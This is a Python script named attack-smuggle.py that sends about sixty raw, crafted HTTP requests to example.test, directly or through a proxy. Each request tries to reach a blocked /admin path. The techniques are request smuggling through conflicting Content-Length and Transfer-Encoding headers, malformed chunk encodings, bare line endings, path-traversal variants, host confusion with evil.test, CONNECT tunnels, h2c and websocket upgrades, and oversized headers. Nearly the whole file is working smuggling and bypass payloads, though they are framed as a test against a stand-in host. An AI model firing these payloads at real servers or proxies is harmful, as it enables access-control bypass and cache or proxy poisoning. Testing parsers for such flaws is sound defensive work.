"""Sends requests that two readers could take for different ones. One line per try: NAME, a tab, the status lines that came.

    attack-smuggle.py direct|proxy

Only paths below /ok are allowed at example.test:80; what is to be smuggled asks for /admin.
"""

import re
import socket
import sys

BY_PROXY = sys.argv[1] == "proxy"
HOST = "Host: example.test\r\n"
STATUS = rb"HTTP/1\.1 (\d\d\d)"
INNER = "GET /admin HTTP/1.1\r\nHost: example.test\r\n\r\n"


def get(path="/ok/x", extra="", end="\r\n", version="HTTP/1.1", method="GET", body=""):
    at = f"http://example.test{path}" if BY_PROXY and path.startswith("/") else path
    return f"{method} {at} {version}{end}{HOST.replace(chr(13) + chr(10), end)}{extra}{end}{body}"


def post(extra, body):
    return get(method="POST", extra=extra, body=body)


TRIES = {
    "pass": get(),
    "pass a body": post("Content-Length: 5\r\n", "hello"),
    "pass chunks": post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\n\r\n"),
    "pass pipelined": get() + get("/ok/y"),
    "pass pipelined with bodies": post("Content-Length: 5\r\n", "hello") + get("/ok/y"),
    "pipelined": get() + INNER,
    "pipelined behind a body": post("Content-Length: 5\r\n", "hello") + INNER,
    "length and chunks": post(f"Content-Length: {5 + len(INNER)}\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + INNER),
    "chunks and length": post("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", f"{len(INNER):x}\r\n{INNER}\r\n0\r\n\r\n"),
    "chunks before the colon": post(f"Transfer-Encoding : chunked\r\nContent-Length: {5 + len(INNER)}\r\n", "0\r\n\r\n" + INNER),
    "chunks folded": post(f"Transfer-Encoding:\r\n chunked\r\nContent-Length: {5 + len(INNER)}\r\n", "0\r\n\r\n" + INNER),
    "chunks of another name": post(f"Transfer-Encoding: xchunked\r\nContent-Length: {5 + len(INNER)}\r\n", "0\r\n\r\n" + INNER),
    "chunks not last": post("Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n" + INNER),
    "chunks twice": post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n" + INNER),
    "chunks of 1.0": get(method="POST", version="HTTP/1.0", extra="Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n", body="0\r\n\r\n" + INNER),
    "chunks with a vertical tab": post(f"Transfer-Encoding: \x0bchunked\r\nContent-Length: {5 + len(INNER)}\r\n", "0\r\n\r\n" + INNER),
    "two lengths": post(f"Content-Length: 0\r\nContent-Length: {len(INNER)}\r\n", INNER),
    "lengths in a list": post(f"Content-Length: 0, {len(INNER)}\r\n", INNER),
    "a length with a sign": post(f"Content-Length: +{len(INNER)}\r\n", INNER),
    "a length in hex": post("Content-Length: 0x0\r\n", INNER),
    "a length with a blank": post("Content-Length: 0 1\r\n", INNER),
    "a negative length": post("Content-Length: -1\r\n", INNER),
    "a length too great": post("Content-Length: 18446744073709551616\r\n", INNER),
    "a folded line": get(extra="X-One: a\r\n Content-Length: 50\r\n") + INNER,
    "bare LF": get(extra="X-One: a\n", end="\n") + INNER,
    "bare LF in a head": get(extra="X-One: a\nContent-Length: 50\r\n") + INNER,
    "bare CR in a head": get(extra="X-One: a\rContent-Length: 50\r\n") + INNER,
    "NUL in a head": get(extra="X-One: a\0Content-Length: 50\r\n") + INNER,
    "a blank in a name": get(extra="X One: a\r\n") + INNER,
    "no colon": get(extra="Content-Length 50\r\n") + INNER,
    "a chunk of no size": post("Transfer-Encoding: chunked\r\n", "\r\n" + INNER),
    "a chunk size too great": post("Transfer-Encoding: chunked\r\n", "fffffffffffffffff\r\n" + INNER),
    "a chunk size with _": post("Transfer-Encoding: chunked\r\n", "1_0\r\n" + INNER),
    "a chunk extension with LF": post("Transfer-Encoding: chunked\r\n", "2;\nxx\r\n4c\r\n0\r\n\r\n" + INNER),
    "a chunk with bare LF": post("Transfer-Encoding: chunked\r\n", "5\nhello\n0\n\n" + INNER),
    "trailers": post("Transfer-Encoding: chunked\r\n", f"0\r\nContent-Length: {len(INNER)}\r\nHost: evil.test\r\n\r\n" + INNER),
    "two hosts": get(extra="Host: evil.test\r\n"),
    "another host": "GET /ok/x HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "no host": "GET /ok/x HTTP/1.1\r\n\r\n",
    "a host with a user": "GET /ok/x HTTP/1.1\r\nHost: example.test@evil.test\r\n\r\n",
    "a whole address of another": "GET http://evil.test/ok/x HTTP/1.1\r\nHost: example.test\r\n\r\n",
    "a whole address with a user": "GET http://example.test@evil.test/ok/x HTTP/1.1\r\nHost: example.test\r\n\r\n",
    "https as a whole address": "GET https://example.test/ok/x HTTP/1.1\r\nHost: example.test\r\n\r\n",
    "up": get("/ok/../admin"), "up, escaped": get("/ok/%2e%2e/admin"), "up, escaped twice": get("/ok/%252e%252e/admin"), "up, with a backslash": get("/ok\\..\\admin"),
    "up, with ;": get("/ok/..;/admin"), "up, with an escaped slash": get("/ok%2f..%2fadmin"), "two slashes": get("//admin"), "a NUL": get("/ok/%00/../admin"), "another case": get("/ADMIN"),
    "HTTP/0.9": "GET /admin\r\n",
    "HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + INNER,
    "h2c": get(extra="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n") + INNER,
    "an upgrade": get(extra="Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n") + INNER,
    "an upgrade with a body": get(method="POST", extra=f"Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: {len(INNER)}\r\n", body=INNER),
    "CONNECT": "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n" + INNER,
    "CONNECT to itself": "CONNECT example.test:80 HTTP/1.1\r\nHost: example.test:80\r\n\r\n" + INNER,
    "an OPTIONS of all": "OPTIONS * HTTP/1.1\r\nHost: example.test\r\n\r\n",
    "a version of its own": get(version="HTTP/1.1 HTTP/1.1") + INNER,
    "expects": post(f"Content-Length: {len(INNER)}\r\nExpect: 100-continue\r\n", "") + INNER[:0],
    "a head of 1 MiB": get(extra="".join(f"X-{n}: {'a' * 1000}\r\n" for n in range(1000))),
    "10,000 header fields": get(extra="A: b\r\n" * 10_000),
    "a line of 1 MiB": get("/ok/" + "a" * (1 << 20)),
    "binary": "\x00\xff" * 500,
}

for name, text in TRIES.items():
    said = b""
    try:
        with socket.create_connection(("198.18.0.1", 3128) if BY_PROXY else ("example.test", 80), 4) as out:
            # What must pass is waited for; what else may come has as long as anything.
            wanted = name.startswith("pass") + name.startswith("pass pipelined")
            out.settimeout(15 if wanted else 0.4)
            out.sendall(text.encode("latin1"))
            while piece := out.recv(65_536):
                said += piece
                if len(re.findall(STATUS, said)) >= wanted:
                    out.settimeout(0.4)
    except TimeoutError:
        pass
    except OSError as error:
        said += f" {type(error).__name__}".encode()
    statuses = re.findall(STATUS, said)
    print(name, b" ".join(statuses).decode() or repr(said[:60]), sep="\t", flush=True)
